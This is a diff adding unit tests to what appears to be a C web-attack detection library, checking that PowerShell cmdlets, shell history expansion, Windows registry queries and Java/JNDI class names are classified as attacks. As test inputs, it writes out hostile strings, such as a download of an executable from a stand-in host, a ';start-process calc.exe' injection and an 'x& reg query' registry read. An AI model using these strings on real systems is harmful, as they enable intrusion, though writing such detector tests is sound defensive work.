@@ -328,6 +328,7 @@ Test(webstruct, the_projects_payload_lists)
     payload_file("sqli.txt", "sqli");
     payload_file("xss.txt", "xss");
     payload_file("rce.txt", "rce");
+    payload_file("code.txt", "code");
 }
 
 Test(webstruct, cmd_if_reads_switches_and_parenthesised_conditions)
@@ -347,6 +348,33 @@ Test(webstruct, powershell_syntax)
     cr_assert(shell("new-object -comobject wscript.shell", FK_WS_PARAM));
     cr_assert_not(shell("see note [1]::2", FK_WS_PARAM));
     cr_assert_not(shell("a new-object approach", FK_WS_PARAM));
+    /* cmdlets by their approved verb, used with a parameter, a variable or a pipe */
+    cr_assert(shell("invoke-webrequest -uri http://e.example/a -outfile a.exe", FK_WS_PARAM));
+    cr_assert(shell("x | out-file c:\\temp\\a.txt", FK_WS_PARAM));
+    cr_assert(shell("remove-item $path", FK_WS_HEADER));
+    cr_assert(shell(";start-process calc.exe", FK_WS_PARAM));
+    cr_assert_not(shell("get-started -- a guide", FK_WS_PARAM));
+    cr_assert_not(shell("/docs/how-to-set-up-sso", FK_WS_PATH));
+    cr_assert_not(shell("the stop-over in dubai", FK_WS_PARAM));
+}
+
+Test(webstruct, shell_history_and_windows_arguments)
+{
+    cr_assert(shell("x;!!", FK_WS_PARAM));
+    cr_assert(shell("a|!-2", FK_WS_PARAM));
+    cr_assert(shell("x; !42 ", FK_WS_PARAM));
+    cr_assert_not(shell("great;!!! loved it", FK_WS_PARAM));
+    cr_assert_not(shell("wow!!", FK_WS_PARAM));
+    cr_assert(shell("x& reg query hklm\\software\\microsoft", FK_WS_PARAM));
+}
+
+Test(webstruct, java_class_files_and_sensitive_packages)
+{
+    cr_assert_str_eq(families_of("yv66vgaaadqaiqoabgaw", FK_WS_PARAM), "code");
+    cr_assert_str_eq(families_of("java.io.fileinputstream", FK_WS_PARAM), "code");
+    cr_assert_str_eq(families_of("x=javax.naming.initialcontext", FK_WS_PARAM), "code");
+    cr_assert_str_eq(families_of("/api/java/io/file.html", FK_WS_PATH), "");
+    cr_assert_str_eq(families_of("myjava.io.site", FK_WS_PARAM), "");
 }
 
 Test(webstruct, remote_includes_and_character_codes)
